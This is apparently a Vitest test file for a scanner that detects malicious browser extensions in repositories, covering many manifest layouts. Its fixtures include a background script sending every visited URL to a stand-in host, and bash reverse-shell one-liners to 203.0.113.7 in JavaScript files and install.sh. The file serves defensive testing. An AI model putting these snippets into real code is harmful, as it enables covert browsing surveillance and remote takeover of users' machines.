import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';
import { heldExtensions, MOST_HELD } from './heldExtensions.ts';
import { mayHoldExtension } from './mayHoldExtension.ts';

type Files = Readonly<Record<string, string>>;

const FOREIGN = 'https://collect.evil-example.net/x';
const MANIFEST = {
  manifest_version: 3,
  name: 'Notes',
  version: '1.2',
  permissions: ['tabs', 'storage'],
  host_permissions: ['<all_urls>'],
};
const manifest = (more: object): string => JSON.stringify({ ...MANIFEST, ...more }, undefined, 2);
/** Every visited address to a stranger. */
const SPY = `chrome.tabs.onUpdated.addListener((id, info, tab) => { fetch('${FOREIGN}', { method: 'POST', body: tab.url }); });\n`;
const HONEST =
  "chrome.tabs.onUpdated.addListener((id, info, tab) => { chrome.action.setTitle({ title: 'Notes' }); });\n";
const worker = (path: string): object => ({ background: { service_worker: path } });
const PACKAGE = JSON.stringify({ name: 'notes', version: '1.2.0', license: 'MIT' });

const scan = (files: Files) => analyze(memoryTree(files), { kind: 'repository' });

/** Where an extension's manifest and scripts lie in repositories; `SCRIPT` is the script that runs in the background. */
const LAYOUTS: readonly (readonly [string, string, (script: string) => Files])[] = [
  [
    'a package in a folder',
    'extension/background.js',
    (script) => ({ 'extension/manifest.json': manifest(worker('background.js')), 'extension/background.js': script }),
  ],
  [
    'a manifest beside its sources, which names what a build makes',
    'src/background/index.ts',
    (script) => ({
      'package.json': PACKAGE,
      'src/manifest.json': manifest(worker('js/background.bundle.js')),
      'src/background/index.ts': script,
    }),
  ],
  [
    'a manifest among what is copied',
    'src/background.ts',
    (script) => ({
      'package.json': PACKAGE,
      'public/manifest.json': manifest({ ...worker('background.js'), action: { default_popup: 'popup.html' } }),
      'public/popup.html': '<p>Notes</p>',
      'src/background.ts': script,
    }),
  ],
  [
    'one manifest for each browser',
    'src/background.js',
    (script) => ({
      'package.json': PACKAGE,
      'manifests/chrome.json': manifest(worker('src/background.js')),
      'manifests/firefox.json': manifest({ background: { scripts: ['src/background.js'] } }),
      'src/background.js': script,
    }),
  ],
  [
    'a manifest that a script makes',
    'src/background.ts',
    (script) => ({
      'package.json': PACKAGE,
      'manifest.config.ts': `import { defineManifest } from '@crxjs/vite-plugin';\nimport pkg from './package.json';\nconst hosts: string[] = ['<all_urls>'];\nexport default defineManifest({\n  manifest_version: 3,\n  name: 'Notes',\n  version: pkg.version,\n  permissions: ['tabs'],\n  host_permissions: hosts,\n  background: { service_worker: 'src/background.ts', type: 'module' },\n});\n`,
      'src/background.ts': script,
    }),
  ],
  [
    'a manifest with its type in front',
    'src/background.ts',
    (script) => ({
      'package.json': PACKAGE,
      'manifest.config.ts': `import type { ManifestV3Export } from '@crxjs/vite-plugin';\nexport default <ManifestV3Export>{ manifest_version: 3, name: 'Notes', version: '1.2', permissions: ['tabs'], host_permissions: ['<all_urls>'], background: { service_worker: 'src/background.ts' } };\n`,
      'src/background.ts': script,
    }),
  ],
  [
    'a manifest that a bundler is told to write',
    'src/background.ts',
    (script) => ({
      'package.json': PACKAGE,
      'webpack.config.ts': `const made = (browser: string): string => { const manifest: Partial<Manifest> = { name: 'Notes', version: '1.2' }; switch (browser) { case 'chrome': manifest.manifest_version = 3; manifest.permissions = ['tabs']; manifest.host_permissions = ['<all_urls>']; manifest.background = { service_worker: 'background.js' }; } return JSON.stringify(manifest); };\nexport default { plugins: [write('manifest.json', made)] };\n`,
      'src/background.ts': script,
    }),
  ],
  [
    "a framework's settings and the names of files (WXT)",
    'entrypoints/background.ts',
    (script) => ({
      'package.json': PACKAGE,
      'wxt.config.ts':
        "import { defineConfig } from 'wxt';\nexport default defineConfig({ manifest: { permissions: ['tabs'], host_permissions: ['<all_urls>'] } });\n",
      'entrypoints/background.ts': `export default defineBackground(() => {\n${script}});\n`,
    }),
  ],
  [
    'names of files alone (Plasmo)',
    'src/background/index.ts',
    (script) => ({
      'package.json': JSON.stringify({
        name: 'notes',
        version: '1.2.0',
        dependencies: { plasmo: '0.90.0' },
        manifest: { permissions: ['tabs'], host_permissions: ['<all_urls>'] },
      }),
      'src/background/index.ts': script,
    }),
  ],
];

describe('extensions in repositories', () => {
  it.each(LAYOUTS)('are judged as extensions: %s', async (_, path, files) => {
    const harmful = await scan(files(SPY));
    const found = harmful.findings.find(({ rule }) => rule === 'browsing-data-to-network');
    expect(found?.place.path).toBe(path);
    expect(found?.path?.every((step) => step.place.path === path)).toBe(true);
    expect(['D', 'F']).toContain(harmful.score.grade);
    const honest = await scan(files(HONEST));
    expect(honest.findings.filter(({ severity }) => severity === 'critical' || severity === 'high')).toEqual([]);
    expect(['A', 'A+']).toContain(honest.score.grade);
  });

  it('are told in the report, whose numbers agree with the list', async () => {
    const [, , files] = LAYOUTS[0] as (typeof LAYOUTS)[number];
    const { details, findings, counts, files: listed } = await scan({ ...files(SPY), 'README.md': '# Notes\n' });
    const text = JSON.stringify(details);
    expect(text).toContain('It holds the browser extension Notes 1.2.');
    expect(text).toContain('collect.evil-example.net');
    expect(Object.values(counts).reduce((sum, count) => sum + count, 0)).toBe(findings.length);
    expect(Object.keys(listed).toSorted()).toEqual(['README.md', 'extension/background.js', 'extension/manifest.json']);
  });

  it('show findings of a manifest on the line of its source', async () => {
    const source =
      '// The manifest.\n\nexport default {\n  manifest_version: 3,\n  name: "x",\n  version: "1",\n\n  permissions: ["debugger"],\n};\n';
    const { findings } = await scan({ 'package.json': PACKAGE, 'src/manifest.ts': source });
    const { place } = findings.find(({ rule }) => rule === 'permission-powerful') ?? {};
    expect(place).toMatchObject({ path: 'src/manifest.ts', line: 8 });
  });

  it("fill a page that loads nothing with the script beside it, which runs on nobody's server", async () => {
    const shown = 'export const Shell = ({ ip }) => <pre>{`bash -i >& /dev/tcp/${ip}/4242 0>&1`}</pre>;\n';
    const { findings } = await scan({
      'package.json': PACKAGE,
      'src/manifest.json': manifest({ action: { default_popup: 'index.html' } }),
      'src/index.html': '<div id="app"></div>',
      'src/App.js': "import { Shell } from './Shell.js'; import './Post.js'; render(<Shell ip='203.0.113.7' />);\n",
      'src/Shell.js': shown,
      'src/Other.js': shown,
      'src/Post.js': `require('child_process').exec("bash -i >& /dev/tcp/203.0.113.7/4242 0>&1");\n`,
      'install.sh': 'bash -i >& /dev/tcp/203.0.113.7/4242 0>&1\n',
    });
    const told = findings.filter(({ rule }) => rule === 'reverse-shell').map(({ place }) => place.path);
    expect(told.toSorted()).toEqual(['install.sh', 'src/Other.js', 'src/Post.js']);
  });

  it('leave what runs on a server to the rules for servers', async () => {
    const [, , files] = LAYOUTS[1] as (typeof LAYOUTS)[number];
    const { findings } = await scan({
      ...files('chrome.runtime.onMessage.addListener((request) => { fetch(request.url); });\n'),
      'server/index.js':
        "const app = require('express')();\napp.get('/x', async (req, res) => { res.json(await (await fetch(req.query.url)).json()); });\n",
    });
    const forged = findings.filter(({ rule }) => rule === 'server-request-forgery').map(({ place }) => place.path);
    expect(forged).toEqual(['server/index.js']);
  });

  it('run where a program says that they do, and put into pages what a build makes of a source', async () => {
    const files = {
      'package.json': PACKAGE,
      'scripts/manifest.ts':
        "const HOSTS = ['a.example', 'b.example'];\nconst at = (folder?: string) => HOSTS.map((host) => `https://${host}${folder ? `/${folder}` : ''}/*`);\nexport const manifest = { manifest_version: 3, name: 'x', version: '1', content_scripts: [{ matches: at(), js: ['scripts/content.min.js'] }, { matches: at('t'), js: ['scripts/topic.min.js'] }] };\n",
      'src/content.ts':
        "const s = document.createElement('script'); s.src = chrome.runtime.getURL('scripts/bridge.min.js'); document.head.append(s);\n",
      'src/topic.ts': 'document.title = "t";\n',
      'src/bridge.ts':
        "window.addEventListener('message', ({ data }) => { window.answer = Function(data.expression)(); });\n",
    };
    const { held } = await heldExtensions(memoryTree(files));
    const manifest = held[0]?.tree.files.find(({ path }) => path === 'manifest.json');
    expect(JSON.parse(new TextDecoder().decode(await manifest?.read())).content_scripts).toEqual([
      { matches: ['https://a.example/*', 'https://b.example/*'], js: ['src/content.ts'] },
      { matches: ['https://a.example/t/*', 'https://b.example/t/*'], js: ['src/topic.ts'] },
    ]);
    // Among the page's own scripts: what it runs there the page could run itself.
    const { findings } = await scan(files);
    expect(findings.filter(({ severity }) => severity === 'critical' || severity === 'high')).toEqual([]);
  });

  it('run at sites that another script names, where no second one could be meant', async () => {
    const files = {
      'package.json': PACKAGE,
      'wxt.config.ts': "export default defineConfig({ manifest: { name: 'x' } });\n",
      'config/sites.ts': "export const SITES = ['https://shop.example/*'];\nSITES.push('https://other.example/*');\n",
      'entrypoints/content.ts':
        "import { SITES } from '@/config/sites';\nexport default defineContentScript({ matches: SITES, main() {} });\n",
    };
    const matches = async (more: Record<string, string>): Promise<unknown> => {
      const { held } = await heldExtensions(memoryTree({ ...files, ...more }));
      const found = held[0]?.tree.files.find(({ path }) => path === 'manifest.json');
      return JSON.parse(new TextDecoder().decode(await found?.read())).content_scripts[0].matches;
    };
    expect(await matches({})).toEqual(['https://shop.example/*', 'https://other.example/*']);
    expect(await matches({ 'old/config/sites.ts': 'export const SITES = [];\n' })).toEqual(['<all_urls>']);
    // Lists that are put into themselves and into one another come to an end.
    const round = "export const SITES = ['https://shop.example/*'];\nconst more = [];\n";
    const pushes = 'SITES.push(...SITES, ...more);\nmore.push(...more, ...SITES);\n'.repeat(4);
    expect(new Set((await matches({ 'config/sites.ts': round + pushes })) as string[])).toEqual(
      new Set(['https://shop.example/*']),
    );
  });

  it('run at the sites that a script with markup in it says', async () => {
    const { held } = await heldExtensions(
      memoryTree({
        'package.json': PACKAGE,
        'wxt.config.ts': "export default defineConfig({ manifest: { name: 'x' } });\n",
        'entrypoints/content.tsx':
          "const AT: string[] = ['https://shop.example/*'];\nexport default defineContentScript({ matches: AT, main() { render(<Panel kind='small'>{1}</Panel>); } });\n",
      }),
    );
    const found = held[0]?.tree.files.find(({ path }) => path === 'manifest.json');
    expect(JSON.parse(new TextDecoder().decode(await found?.read())).content_scripts[0].matches).toEqual([
      'https://shop.example/*',
    ]);
  });

  it('have a policy that is put together, as far as its parts are written', async () => {
    const source = (added: string): string =>
      `const script = ["'self'"];\n${added}const policy = () => \`\${[\`script-src \${script.join(' ')}\`, "object-src 'self'"].join('; ')};\`;\nexport default { manifest_version: 3, name: 'x', version: '1', content_security_policy: { extension_pages: policy() } };\n`;
    const told = async (added: string): Promise<boolean> => {
      const { findings } = await scan({ 'package.json': PACKAGE, 'src/manifest.ts': source(added) });
      return findings.some(({ rule }) => rule === 'csp-remote-script');
    };
    expect([await told(''), await told("script.push('https://cdn.other.example');\n")]).toEqual([false, true]);
  });

  it('have handlers of messages of their own (Plasmo)', async () => {
    const [, , files] = LAYOUTS.at(-1) as (typeof LAYOUTS)[number];
    const { findings } = await scan({
      ...files(HONEST),
      'src/background/messages/save.ts':
        "export const handler = async (req, res) => { const { server, token, note } = req.body; res.send(await fetch(`${server}/notes`, { method: 'POST', headers: { Authorization: token }, body: JSON.stringify(note) })); };\n",
    });
    expect(findings.filter(({ severity }) => severity === 'critical' || severity === 'high')).toEqual([]);
  });

  it('are several, each with files of its own, up to a bound that the report names', async () => {
    const files: Record<string, string> = {};
    for (let at = 0; at < MOST_HELD + 3; at++) {
      files[`all/e${at}/manifest.json`] = manifest(worker('background.js'));
      files[`all/e${at}/background.js`] = HONEST;
    }
    const { held, beyond } = await heldExtensions(memoryTree(files));
    expect([held.length, beyond]).toEqual([MOST_HELD, 3]);
    expect(held.every(({ tree }) => tree.files.length === 2)).toBe(true);
    expect((await scan(files)).notRun.map(({ what }) => what)).toContain('3 more browser extensions');
  });

  it('are not looked for in tests, in vendored code and in packages of other things', async () => {
    const file = (path: string): Files => ({ [path]: manifest(worker('b.js')) });
    const none = { ...file('tests/x/manifest.json'), ...file('node_modules/x/manifest.json') };
    expect((await heldExtensions(memoryTree(none))).held).toEqual([]);
    expect((await heldExtensions(memoryTree({ 'manifest.json': '{"name": "web app", "icons": []}' }))).held).toEqual(
      [],
    );
    expect(mayHoldExtension(['src/index.ts', 'package.json', 'README.md'])).toBe(false);
  });

  it.each(['{', '[]', '{"manifest_version": 3', 'export default () => { throw 1 }'])(
    'end no scan by a manifest that is none: %s',
    async (text) => {
      const { files } = await scan({ 'manifest.json': text, 'manifest.ts': text, 'wxt.config.ts': text });
      expect(Object.keys(files)).toHaveLength(3);
    },
  );
});
